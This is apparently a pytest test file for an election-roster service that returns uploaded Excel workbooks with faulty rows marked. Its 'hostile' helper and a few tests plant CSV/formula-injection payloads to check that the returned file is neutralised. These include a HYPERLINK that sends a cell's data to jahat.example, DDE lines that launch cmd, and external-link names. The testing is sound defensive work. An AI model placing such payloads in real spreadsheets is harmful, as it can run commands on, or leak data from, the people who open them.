"""The workbook that goes back: the sender's own, marked, harmless, and understood when it comes again."""

import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from openpyxl.worksheet.worksheet import Worksheet

from enrolment.actions.rosters.comparing import compare, gone_seats
from enrolment.actions.rosters.editing import edit_cells
from enrolment.models import Election, RosterUpload
from enrolment.rules.roster_fields import Field
from enrolment.writers import returned
from enrolment.writers.mark_workbook import FILLS
from enrolment.writers.returned import returned_file, returned_name
from tests import factories_rosters as rosters
from tests.factories_enrolment import make_election
from tests.people import World

RED, AMBER = FILLS["error"], FILLS["warning"]
pytestmark = pytest.mark.usefixtures("reference")


OURS = ["Hasil pemeriksaan (hanya baris yang keliru)", "Yang perlu diperbaiki"]


@pytest.fixture
def election(reference: None) -> Election:
    return make_election()


@pytest.fixture
def people() -> list[dict[str, Any]]:
    """Two whole PPS; of the first desa the first anggota's NIK is short, the second's mother is not named."""
    found = list(rosters.pps(rosters.first_desa(2)))
    found[1]["nik"] = found[1]["nik"][:15]
    found[2]["mother"] = ""
    return found


def opened(content: bytes) -> Worksheet:
    return load_workbook(io.BytesIO(content)).worksheets[0]


def xml_of(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}


def counts(upload: RosterUpload) -> tuple[int, int, int, int]:
    return upload.rows, upload.ok, upload.warned, upload.rejected


def test_the_senders_own_sheet_comes_back_marked(world: World, election: Election, people: list[dict[str, Any]]):
    content = rosters.saved(rosters.office_list(people))
    upload = rosters.send(world, election, "daftar pps.xlsx", content)
    assert counts(upload) == (6, 4, 1, 1)

    name, made = returned_file(upload)
    sheet, sent = opened(made), opened(content)

    assert name == "daftar pps-diperiksa.xlsx"
    assert sheet.title == "Lampiran"
    assert [cell.value for row in sheet["A1:I17"] for cell in row] == [
        cell.value for row in sent["A1:I17"] for cell in row
    ]
    assert {str(each) for each in sent.merged_cells.ranges} < {str(each) for each in sheet.merged_cells.ranges}
    assert sheet.column_dimensions["B"].width == 31.5
    assert sheet["A1"].font.bold
    assert (sheet["J4"].value, sheet["K4"].value) == ("Hasil pemeriksaan", "Yang perlu diperbaiki")
    # Rows 6 and 7 are the headings of the kecamatan and the first desa; its three people stand in 8 to 10.
    assert [sheet[f"J{row}"].value for row in range(6, 11)] == [None, None, "Baik", "Ditolak", "Peringatan"]
    assert sheet["C9"].fill.fgColor.rgb == RED
    assert "16 angka" in sheet["C9"].comment.text
    assert "16 angka" in sheet["K9"].value
    assert sheet["G10"].fill.fgColor.rgb == AMBER
    assert sheet["C8"].fill.fill_type is None
    assert sheet["C9"].number_format == "@"


def test_the_filter_shows_faulty_rows_and_headings_and_hides_good_rows(
    world: World, election: Election, people: list[dict[str, Any]]
):
    upload = rosters.send(world, election, "a.xlsx", rosters.saved(rosters.office_list(people)))
    sheet = opened(returned_file(upload)[1])

    hidden = [row for row in range(1, 18) if sheet.row_dimensions[row].hidden]
    assert hidden == [8, 12, 13, 14]
    assert sheet.auto_filter.ref == "A5:K14"
    (criteria,) = sheet.auto_filter.filterColumn
    assert (criteria.colId, criteria.filters.filter, criteria.filters.blank) == (9, ["Ditolak", "Peringatan"], True)


def test_in_a_protected_sheet_faulty_cells_can_be_mended_and_the_filter_used(
    world: World, election: Election, people: list[dict[str, Any]]
):
    book = rosters.office_list(people)
    book.active.protection.enable()
    sheet = opened(returned_file(rosters.send(world, election, "a.xlsx", rosters.saved(book)))[1])

    assert sheet.protection.sheet
    assert not sheet.protection.autoFilter  # the filter is not among what is forbidden
    marked = [cell for row in sheet.iter_rows() for cell in row if cell.comment is not None]
    assert marked
    assert not any(cell.protection.locked for cell in marked)


def test_it_is_understood_without_a_new_mapping_and_what_was_corrected_is_no_fault_any_more(
    world: World, election: Election, people: list[dict[str, Any]]
):
    first = rosters.send(world, election, "a.xlsx", rosters.saved(rosters.office_list(people)))
    book = load_workbook(io.BytesIO(returned_file(first)[1]))
    book["Lampiran"]["C9"] = rosters.person(2)["nik"]
    book["Lampiran"]["G10"] = "Ibu Aminah"

    second = rosters.send(world, election, "a-diperiksa.xlsx", rosters.saved(book))

    assert second.layout["key"] == first.layout["key"]
    assert second.state == RosterUpload.State.READY
    assert counts(second) == (6, 6, 0, 0)


def test_marks_of_the_time_before_are_gone_and_the_columns_are_not_doubled(
    world: World, election: Election, people: list[dict[str, Any]]
):
    first = rosters.send(world, election, "a.xlsx", rosters.saved(rosters.office_list(people)))
    book = load_workbook(io.BytesIO(returned_file(first)[1]))
    book["Lampiran"]["C9"] = rosters.person(2)["nik"]
    name, again = returned_file(rosters.send(world, election, "a-diperiksa.xlsx", rosters.saved(book)))

    sheet = opened(again)
    assert name == "a-diperiksa.xlsx"
    assert [cell.value for cell in sheet[4]].count("Hasil pemeriksaan") == 1
    assert sheet.max_column == 11
    assert (sheet["J9"].value, sheet["K9"].value) == ("Baik", None)
    assert (sheet["C9"].fill.fill_type, sheet["C9"].comment) == (None, None)
    assert sheet["J10"].value == "Peringatan"


def test_a_file_without_faults_hides_nothing(world: World, election: Election):
    upload = rosters.send(world, election, "a.xlsx", rosters.plain_workbook(list(rosters.pps(rosters.first_desa(1)))))
    sheet = opened(returned_file(upload)[1])
    assert not any(row.hidden for row in sheet.row_dimensions.values())
    assert sheet.auto_filter.filterColumn == []


def test_what_was_typed_over_in_the_review_stands_in_the_cells(
    world: World, election: Election, people: list[dict[str, Any]]
):
    upload = rosters.send(world, election, "a.xlsx", rosters.saved(rosters.office_list(people)))
    good = rosters.person(2)["nik"]
    line = upload.lines.get(row=9)
    edit_cells(upload=upload, line=line, texts={Field.NIK: good}, by=world.kpu)
    edit_cells(upload=upload, line=line, texts={Field.BIRTH_PLACE: "Simpang"}, by=world.kpu)
    edit_cells(upload=upload, line=upload.lines.get(row=10), texts={Field.MOTHER: "=Aminah"}, by=world.kpu)
    edit_cells(upload=upload, line=upload.lines.get(row=12), texts={Field.DESA: "Entah"}, by=world.kpu)

    made = returned_file(RosterUpload.objects.get(pk=upload.pk))[1]
    sheet = opened(made)

    assert sheet["C9"].value == good
    assert sheet["D9"].value == f"Simpang, {people[1]['born']:%d-%m-%Y}"
    assert (sheet["G10"].value, sheet["G10"].data_type, sheet["G10"].quotePrefix) == ("=Aminah", "s", True)
    assert sheet["J12"].value == "Ditolak"
    assert "Desa/kelurahan = Entah" in sheet["K12"].value
    again = rosters.send(world, election, "b.xlsx", made)
    assert {line.row: line.state for line in again.lines.all()}[9] == "ok"


def hostile(people: list[dict[str, Any]]) -> Workbook:
    book = load_workbook(io.BytesIO(rosters.plain_workbook(people)))
    sheet = book.active
    sheet["F2"] = '=HYPERLINK("http://jahat.example/?x="&A2,"Jl. Contoh")'
    sheet["F3"].value, sheet["F3"].data_type = "=cmd|'/c calc'!A1", "s"
    sheet["F4"].hyperlink = "http://jahat.example/"
    sheet["M2"] = "=[1]Lain!A1"
    sheet["M3"] = '=DDE("cmd";"/c calc";"x")'
    book.defined_names["jalan"] = DefinedName("jalan", attr_text="cmd|'/c calc'!A1")
    book.defined_names["luar"] = DefinedName("luar", attr_text="[1]Lain!$A$1")
    book.defined_names["dalam"] = DefinedName("dalam", attr_text="Sheet!$A$1:$A$4")
    sheet.data_validations.append(DataValidation(type="list", formula1='"L,P"', sqref="E2:E9"))
    sheet.data_validations.append(DataValidation(type="list", formula1="[1]Lain!$A$1:$A$9", sqref="G2:G9"))
    return book


def test_nothing_live_of_the_senders_is_left(world: World, election: Election, people: list[dict[str, Any]]):
    upload = rosters.send(world, election, "a.xlsx", rosters.saved(hostile(people)))
    made = returned_file(upload)[1]

    files = xml_of(made)
    sheets = [text for name, text in files.items() if name.startswith("xl/worksheets/sheet")]
    assert not any(re.search(r"<f[ />]", text) for text in sheets)
    assert not any("<hyperlink" in text for text in sheets)
    assert not any("externalLink" in name for name in files)
    assert not any("jahat.example" in text for text in files.values())
    assert set(re.findall(r'definedName name="(\w+)"', files["xl/workbook.xml"])) == {"dalam"}
    sheet = opened(made)
    assert [check.formula1 for check in sheet.data_validations.dataValidation] == ['"L,P"']
    assert (sheet["F3"].data_type, sheet["F3"].quotePrefix) == ("s", True)


def test_a_formulas_last_value_stays(world: World, election: Election, people: list[dict[str, Any]]):
    """Names are often put together by formula; openpyxl writes no cached values, so they are put into the file here."""
    book = load_workbook(io.BytesIO(rosters.plain_workbook(people)))
    book.active["B2"] = '="Sumarno "&"Fauziah"'
    with_value = rewritten(rosters.saved(book), "<v></v>", "<v>Sumarno Fauziah</v>", 'r="B2"', 'r="B2" t="str"')
    upload = rosters.send(world, election, "a.xlsx", with_value)

    cell = opened(returned_file(upload)[1])["B2"]

    assert (cell.value, cell.data_type) == ("Sumarno Fauziah", "s")


def rewritten(content: bytes, *pairs: str) -> bytes:
    """The workbook with parts of its first sheet's XML replaced: old, new, old, new …"""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(made, "w") as target:
        for item in source.infolist():
            text = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                for old, new in zip(pairs[::2], pairs[1::2], strict=True):
                    assert old.encode() in text or old == "<v></v>"
                    text = text.replace(old.encode(), new.encode()).replace(b"<v />", new.encode(), 1)
            target.writestr(item, text)
    return made.getvalue()


def test_filters_tables_and_comments_of_the_sender(world: World, election: Election, people: list[dict[str, Any]]):
    book = load_workbook(io.BytesIO(rosters.plain_workbook(people)))
    book.active.add_table(Table(displayName="Orang", ref="A1:K7"))
    book.active["A3"].comment = Comment("Sudah ditelepon", "Sekretaris")
    upload = rosters.send(world, election, "a.xlsx", rosters.saved(book))

    sheet = opened(returned_file(upload)[1])

    assert not sheet.tables  # a second filter beside it would make Excel repair the file
    assert sheet.auto_filter.ref == "A1:M7"
    assert sheet["A3"].comment.text == "Sudah ditelepon"
    assert sheet["A3"].fill.fgColor.rgb == RED


def test_a_damaged_nik_goes_back_as_the_number_that_it_is(
    world: World, election: Election, people: list[dict[str, Any]]
):
    people[0]["nik"] = 1609031203900000
    upload = rosters.send(world, election, "a.xlsx", rosters.plain_workbook(people))
    sheet = opened(returned_file(upload)[1])
    assert (sheet["A2"].value, sheet["A2"].number_format) == (1609031203900000, "@")
    again = rosters.send(world, election, "b.xlsx", returned_file(upload)[1])
    assert [problem["code"] for problem in again.lines.get(row=2).problems] == ["nik-excel-damage"]


def test_rows_that_stand_already_say_so(world: World, election: Election, people: list[dict[str, Any]]):
    upload = rosters.send(world, election, "a.xlsx", rosters.plain_workbook(people))
    upload.lines.filter(row=2).update(accepted_at=upload.checked_at, outcome="new")
    sheet = opened(returned_file(upload)[1])
    assert sheet["L2"].value == "Sudah tersimpan"
    assert sheet.row_dimensions[2].hidden


@pytest.mark.parametrize("kind", ["csv", "large", "unwritable"])
def test_where_the_own_workbook_cannot_be_marked_its_faulty_rows_come_in_a_new_one(
    world: World, election: Election, people: list[dict[str, Any]], kind: str, monkeypatch: pytest.MonkeyPatch
):
    people[1]["address"] = "=cmd|'/c calc'!A1"
    is_csv = kind == "csv"
    content = rosters.plain_csv(people) if is_csv else rosters.plain_workbook(people)
    upload = rosters.send(world, election, "daftar.csv" if is_csv else "daftar.xlsx", content)
    if kind == "large":
        monkeypatch.setattr(returned, "MOST_MARKED", 5)
    if kind == "unwritable":
        monkeypatch.setattr(returned, "_MEMORY", 20 * 1024 * 1024)

    name, made = returned_file(upload)
    sheet = opened(made)

    assert name == "daftar-diperiksa.xlsx"
    assert [cell.value for cell in sheet[1]] == [*rosters.PLAIN_HEAD, *OURS]
    assert [sheet.cell(row, 1).value for row in (2, 3)] == [people[1]["nik"], people[2]["nik"]]
    assert sheet.max_row == 3
    assert sheet["A2"].fill.fgColor.rgb == RED
    assert (sheet["F2"].data_type, sheet["F2"].quotePrefix) == ("s", True)
    assert not any(re.search(r"<f[ />]", text) for file, text in xml_of(made).items() if "worksheets/sheet" in file)

    again = rosters.send(world, election, name, made)
    assert again.layout["key"] == upload.layout["key"]
    assert counts(again) == (2, 0, 1, 1)
    rosters.accept(upload=upload, by=None)
    compared = compare(upload=again)
    assert (compared.is_part, compared.numbers.gone, compared.numbers.absent) == (True, 0, 0)
    assert gone_seats(upload=again) == []


def test_headings_become_columns_in_the_new_workbook(
    world: World, election: Election, people: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(returned, "MOST_MARKED", 5)
    people[4]["phone"] = "08"
    upload = rosters.send(world, election, "a.xlsx", rosters.saved(rosters.office_list(people)))
    name, made = returned_file(upload)
    book = load_workbook(io.BytesIO(made))
    sheet = book["Lampiran"]
    heads = [cell.value for cell in sheet[1]]
    assert heads[-4:] == ["Kecamatan", "Desa/Kelurahan", *OURS]
    sheet["C2"] = rosters.person(2)["nik"]

    again = rosters.send(world, election, name, rosters.saved(book))

    assert again.state == RosterUpload.State.READY
    assert counts(again) == (3, 1, 2, 0)
    assert [line.region_code for line in again.lines.all()] == [
        people[1]["desa"].pk, people[2]["desa"].pk, people[4]["desa"].pk,
    ]  # fmt: skip


def test_dates_stay_dates_in_the_new_workbook(
    world: World, election: Election, people: list[dict[str, Any]], monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(returned, "MOST_MARKED", 5)
    upload = rosters.send(world, election, "a.xlsx", rosters.plain_workbook(people))
    cell = opened(returned_file(upload)[1])["D2"]
    assert cell.is_date
    assert cell.value.date() == people[1]["born"]


@pytest.mark.parametrize(
    ("sent", "expected"),
    [
        ("Daftar KPPS.xls", "Daftar KPPS-diperiksa.xlsx"),
        ("a-diperiksa.xlsx", "a-diperiksa.xlsx"),
        ("b", "b-diperiksa.xlsx"),
    ],
)
def test_the_name_says_what_it_is_once(sent: str, expected: str):
    assert returned_name(sent) == expected
